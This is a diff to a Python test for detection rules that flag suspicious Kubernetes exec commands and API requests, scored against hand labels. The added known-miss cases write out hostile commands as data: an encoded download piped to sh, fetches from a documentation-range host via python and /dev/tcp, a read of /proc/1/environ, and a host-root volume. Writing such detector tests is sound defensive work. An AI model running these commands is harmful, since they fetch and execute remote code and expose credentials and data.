@@ -1,7 +1,9 @@
 """A small corpus, labelled by hand with what a person would say of each request, against what the rules say.
 
 The labels were written from the requests, not from the rules: some requests hide what they do, and some look worse
-than they are. The table of precision and recall is printed (``pytest -rA``); the floors below keep it from sinking.
+than they are. The table of precision and recall is printed (``pytest -rA``), and every miss and every find without
+cause is named below, so that none comes unnoticed. The set is small and made by us: the table compares versions of the
+rules, it does not say how often they are right in somebody's cluster.
 """
 
 from __future__ import annotations
@@ -99,7 +101,6 @@ CASES = [
     execs("curl\0-s\0localhost:8080/healthz"),
     execs("curl\0http://127.0.0.1:9090/metrics"),
     execs(in_shell("apt-get install -y curl")),
-    execs(in_shell("echo Y3VybCBodHRwOi8vZXZpbA== | base64 -d | sh"), "ingressToolTransfer"),  # hidden: not found
     execs("curl\0--version"),
     execs("tar\0cf\0-\0/data/orders", "exfiltrationGeneral"),
     execs("tar\0-czf\0-\0-C\0/data\0.", "exfiltrationGeneral"),
@@ -216,6 +217,17 @@ CASES = [
     Case("pods", "list", "accessKubernetesAPIServer", user="system:anonymous", name=None),
     Case("secrets", "list", "accessKubernetesAPIServer kubernetesSecrets", user="system:anonymous", name=None),
     Case("pods", "list", "accessKubernetesAPIServer", user=None, name=None, groups=["system:unauthenticated"]),
+    # what hides itself, or works in other words: known to be missed, and counted as such
+    execs(in_shell("echo Y3VybCBodHRwOi8vZXZpbA== | base64 -d | sh"), "ingressToolTransfer"),
+    execs("python3\0-c\0import urllib.request as u; u.urlretrieve('http://203.0.113.9/x', '/tmp/x')",
+          "ingressToolTransfer"),
+    execs(in_shell("exec 3<>/dev/tcp/203.0.113.9/80; cat <&3 > /tmp/x"), "ingressToolTransfer"),
+    execs("cat\0/proc/1/environ", "unsecuredCredentials"),
+    execs(in_shell("cat /data/orders | base64"), "exfiltrationGeneral"),
+    Case("persistentvolumes", "create", "writableVolumes", namespace=None, body={"spec": {"hostPath": {"path": "/"}}}),
+    # what only looks like it: known to be found without cause
+    Case("secrets", "get", "", user="system:serviceaccount:ingress-nginx:ingress-nginx", name="shop-tls"),
+    Case("serviceaccounts/token", "create", "", user="system:serviceaccount:vault:vault", namespace="vault"),
     # the day's work
     Case("leases", "update", "", user=NODE),
     Case("nodes/status", "patch", "", user=NODE),
@@ -238,8 +250,10 @@ def test_the_rules_find_what_a_person_sees():
         if labels != found:
             wrong.append((case, found))
     sys.stdout.write(table(right, extra, missed))
-    # One miss is known: a command that hides itself.
-    assert (sum(extra.values()), sum(missed.values())) == (0, 1), wrong
+    assert extra == {"kubernetesSecrets": 1, "accountManipulation": 1, "unsecuredCredentials": 1}, wrong
+    assert missed == {
+        "ingressToolTransfer": 3, "unsecuredCredentials": 1, "exfiltrationGeneral": 1, "writableVolumes": 1,
+    }, wrong  # fmt: skip
 
 
 def test_every_technique_that_a_rule_may_give_is_in_the_corpus_with_and_without_it():
